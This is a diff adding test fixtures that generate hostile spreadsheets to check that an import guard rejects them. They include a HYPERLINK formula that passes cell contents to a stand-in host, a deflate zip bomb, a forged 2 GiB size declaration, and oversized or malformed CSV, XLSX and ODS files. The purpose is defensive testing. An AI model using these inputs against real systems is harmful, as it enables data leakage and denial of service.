@@ -491,3 +491,121 @@ def trusted_signer_world(root, make_vault: Callable[[str, str], Vault]) -> tuple
     homs.lock()
     tartus.lock()
     return coordinator, sender, held
+
+
+# ---- spreadsheets for `case import` (issue 18) -----------------------------------------------------
+# Each is refused as a whole before any row is read (app/services/intake/sheet_import/guard.py): one
+# line, exit 4, the vault unchanged. The big ones declare their size or compress it: none writes GBs.
+SHEET_MAPPING = {"tawthiq_sheet_mapping": 1, "form": "kidnapping", "fields": {"title": "title"}}
+
+
+def _xlsx_bytes(rows: list[list], formula_at: tuple[int, int] | None = None) -> bytes:
+    import xlsxwriter
+
+    buffer = io.BytesIO()
+    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
+    sheet = book.add_worksheet("Sheet1")
+    for r, row in enumerate(rows):
+        for c, value in enumerate(row):
+            sheet.write(r, c, value)
+    if formula_at is not None:
+        sheet.write_formula(*formula_at, '=HYPERLINK("http://example.invalid/?"&A2,"open")', None, "open")
+    book.close()
+    return buffer.getvalue()
+
+
+def _replace_member(workbook: bytes, name: str, data: bytes, level: int = 6) -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(workbook)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            body = data if info.filename == name else src.read(info)
+            dst.writestr(info.filename, body, compress_type=zipfile.ZIP_DEFLATED, compresslevel=level)
+    return out.getvalue()
+
+
+def _declare_size(workbook: bytes, name: str, size: int) -> bytes:
+    """The central directory claims `size` bytes for member `name` (its data stays a few bytes)."""
+    import struct
+
+    raw = bytearray(workbook)
+    needle = name.encode()
+    at = raw.find(b"PK\x01\x02")
+    while at != -1:
+        name_len = struct.unpack_from("<H", raw, at + 28)[0]
+        if bytes(raw[at + 46:at + 46 + name_len]) == needle:
+            struct.pack_into("<I", raw, at + 24, size)
+        at = raw.find(b"PK\x01\x02", at + 4)
+    return bytes(raw)
+
+
+_SHEET_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet '
+              'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData>'
+              '</worksheet>')
+
+
+def _ods_bytes(rows_xml: str) -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
+        z.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:'
+                   'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
+                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
+                   'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
+        z.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
+                   'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+                   'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
+                   f'<table:table table:name="S">{rows_xml}</table:table></office:spreadsheet></office:body>'
+                   '</office:document-content>')
+    return out.getvalue()
+
+
+def sheet_samples(folder) -> dict[str, object]:
+    """name -> path of each hostile spreadsheet, written under `folder` (a few MB in all)."""
+    from pathlib import Path
+
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    good = _xlsx_bytes([["title"], ["a case"]])
+    cell = '<table:table-row><table:table-cell office:value-type="string"><text:p>title</text:p></table:table-cell>' \
+           '</table:table-row>'
+    samples: dict[str, bytes] = {
+        "formula_cells.xlsx": _xlsx_bytes([["title"], ["a case"]], formula_at=(1, 1)),
+        "million_columns.csv": b"title" + b",x" * 1_000_000 + b"\r\n",
+        "million_columns.xlsx": _replace_member(good, "xl/worksheets/sheet1.xml", _SHEET_XML.format(
+            rows='<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c>'
+                 '<c r="BDWGN1" t="inlineStr"><is><t>x</t></is></c></row>').encode()),
+        "repeated_columns.ods": _ods_bytes(cell + '<table:table-row table:number-rows-repeated="1000">'
+                                           '<table:table-cell table:number-columns-repeated="16384" '
+                                           'office:value-type="string"><text:p>x</text:p></table:table-cell>'
+                                           '</table:table-row>'),
+        "formula_cells.ods": _ods_bytes(cell + '<table:table-row><table:table-cell table:formula="of:=1+1" '
+                                        'office:value-type="float" office:value="2"><text:p>2</text:p>'
+                                        '</table:table-cell></table:table-row>'),
+        # 64 MiB of XML whitespace deflates to ~64 KiB: refused by the ratio, not by unpacking it.
+        "zip_bomb.xlsx": _replace_member(good, "xl/worksheets/sheet1.xml", _SHEET_XML.format(
+            rows=" " * (64 << 20)).encode(), level=9),
+        # A 2 GB cell: the shared strings part declares 2 GiB (its data is a few bytes).
+        "two_gb_cell.xlsx": _declare_size(good, "xl/sharedStrings.xml", 2 << 30),
+        "invalid_utf8.csv": b"title,date\r\n\xff\xfe\xc0\xaf,2025-01-01\r\n",
+        "nul_bytes.csv": b"title\r\na\x00b\r\n",
+        "line_over_4_mib.csv": b"title\r\n" + b"a" * (5 << 20),
+        "not_a_workbook.xlsx": b"title\r\nthis is not a zip\r\n",
+        "truncated.xlsx": good[: len(good) // 2],
+    }
+    paths: dict[str, object] = {}
+    for name, raw in samples.items():
+        path = folder / name
+        path.write_bytes(raw)
+        paths[name] = path
+    # A 2 GB cell in a CSV: a sparse file, its size seen before a byte is read.
+    sparse = folder / "two_gb_cell.csv"
+    with open(sparse, "wb") as fh:
+        fh.write(b'title\r\n"')
+        fh.seek((2 << 30) - 1)
+        fh.write(b'"')
+    paths["two_gb_cell.csv"] = sparse
+    return paths
